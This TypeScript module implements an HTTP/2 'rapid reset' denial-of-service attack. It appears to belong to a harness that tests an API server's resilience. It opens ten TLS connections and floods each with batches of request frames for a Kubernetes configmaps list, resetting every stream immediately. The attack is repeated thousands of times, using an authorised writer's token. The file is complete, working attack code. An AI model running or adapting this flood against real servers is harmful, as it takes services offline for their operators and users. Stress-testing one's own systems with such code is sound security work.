import type { Attack } from '../attack.ts';
import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  headerBlock,
  preface,
  requestFields,
  reset,
} from '../frames.ts';
import { dialTls } from '../place.ts';
import { hold, swarm } from '../swarm.ts';

const BATCH = 100;

/** HTTP/2 rapid reset: requests that are taken back in the same packet. */
export const rapidReset: Attack = {
  name: 'rapid-reset',
  summary: 'asks for a list and resets the stream at once, 10,000 to 100,000 times on 10 connections',
  async start(stage, signal) {
    const block = headerBlock(requestFields('/api/v1/namespaces/big/configmaps', stage.people.writer.token));
    await swarm(10, 10, signal, async () => {
      const socket = await dialTls(stage.place, 'h2', signal);
      if (socket === undefined) return stage.tally.answer(0);
      socket.resume();
      socket.write(preface());
      const total = stage.size(1000, 10_000);
      for (let sent = 0; sent < total && !signal.aborted && socket.writable; sent += BATCH) {
        const frames = Array.from({ length: BATCH }, (_, at) => {
          const stream = 2 * (sent + at) + 1;
          return [frame(FRAME.headers, END_HEADERS | END_STREAM, stream, block), reset(stream)];
        });
        stage.tally.send(BATCH);
        if (!socket.write(Buffer.concat(frames.flat()))) await hold(20, signal);
      }
      await hold(500, signal);
      socket.destroy();
    });
    return [];
  },
};
